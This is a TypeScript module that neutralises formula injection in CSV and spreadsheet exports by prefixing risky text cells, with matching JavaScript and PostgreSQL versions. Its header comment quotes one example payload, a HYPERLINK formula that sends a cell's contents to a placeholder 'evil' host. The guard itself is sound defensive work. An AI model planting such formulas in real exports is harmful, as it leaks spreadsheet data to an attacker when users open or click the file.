/**
 * Formula-injection guard for spreadsheet exports (OWASP "CSV Injection").
 *
 * A spreadsheet (Excel, LibreOffice, Google Sheets, Numbers) treats a cell whose text starts with `=`, `+`, `-`
 * or `@` as a formula, and tab / carriage return at the start can hide such a prefix from the eye; SubIDs,
 * campaign and promo tool names, contact names and emails are typed by strangers, so a cell like
 * `=HYPERLINK("http://evil/?"&A1,"click")` must reach the spreadsheet as text. The rule: a *text* cell that starts
 * with one of the trigger characters gets a leading `'`, which every spreadsheet reads as "this is text" (and
 * hides). Numeric cells (amounts, ids, counts) are written by Partnergate itself and never pass through here,
 * so a genuine negative amount (`-12.50`, a refund or clawback) stays a number.
 *
 * Spreadsheets also skip leading blanks before deciding (LibreOffice and Excel evaluate ` =1+1` and `\n=1+1`
 * pasted or imported with formula detection on), so a trigger after any run of spaces, tabs, CRs or LFs counts
 * as first too.
 *
 * Besides the OWASP list we also neutralise the full-width forms `＝ ＋ － ＠` (U+FF1D, U+FF0B, U+FF0D, U+FF20):
 * Apple Numbers normalises them to their ASCII twins and evaluates the result (the same list csv-stringify's
 * `escape_formulas` uses).
 *
 * The one list below drives both implementations: `neutraliseFormula` (JavaScript, csv-stringify exports) and
 * `neutraliseFormulaSql` (the SQL expression used by PostgreSQL COPY exports). Tests run the table of cases
 * in test/reports/formula-guard.test.ts through both.
 */
import { sql, type Expression, type RawBuilder } from 'kysely';

/** Characters that make a spreadsheet evaluate a cell when they come first. */
export const FORMULA_TRIGGERS: readonly string[] = ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];

const TRIGGER_SET = new Set(FORMULA_TRIGGERS);

/** Blanks a spreadsheet skips before it looks for a formula trigger. */
const LEADING_BLANKS = [' ', '\t', '\r', '\n'];
const BLANK_SET = new Set(LEADING_BLANKS);

/** The text a spreadsheet shows for `'x` is `x`: the prefix marks the cell as text and is not displayed. */
export const NEUTRALISING_PREFIX = "'";

/** `=cmd` (or ` =cmd`, `\n=cmd`) -> `'=cmd`; anything whose first non-blank is not a trigger is returned unchanged. */
export function neutraliseFormula(text: string): string {
  if (text.length === 0) return text;
  if (TRIGGER_SET.has(text[0]!)) return NEUTRALISING_PREFIX + text;
  if (!BLANK_SET.has(text[0]!)) return text;
  let i = 1;
  while (i < text.length && BLANK_SET.has(text[i]!)) i++;
  return i < text.length && TRIGGER_SET.has(text[i]!) ? NEUTRALISING_PREFIX + text : text;
}

/** The triggers as a SQL list of code points (`chr(61), chr(43), ...`): ASCII-only SQL, no escaping questions. */
const sqlPrefix = `'${NEUTRALISING_PREFIX.replace(/'/g, "''")}'`;
const sqlTriggerList = FORMULA_TRIGGERS.map((c) => `chr(${c.codePointAt(0)})`).join(', ');
const sqlBlanks = LEADING_BLANKS.map((c) => `chr(${c.codePointAt(0)})`).join(' || ');

/**
 * SQL twin of {@link neutraliseFormula} for PostgreSQL (and SQLite, which has `char()` instead of `chr()`:
 * only PostgreSQL uses this). Empty text becomes NULL so that COPY writes an empty field unquoted, exactly
 * as csv-stringify writes an empty string (COPY quotes `""` to tell an empty string from NULL).
 */
export function neutraliseFormulaSql(text: Expression<unknown> | RawBuilder<unknown>): RawBuilder<string | null> {
  return sql<string | null>`case when left(${text}, 1) in (${sql.raw(sqlTriggerList)}) or left(ltrim(${text}, ${sql.raw(sqlBlanks)}), 1) in (${sql.raw(sqlTriggerList)}) then ${sql.raw(sqlPrefix)} || ${text} else nullif(${text}, '') end`;
}
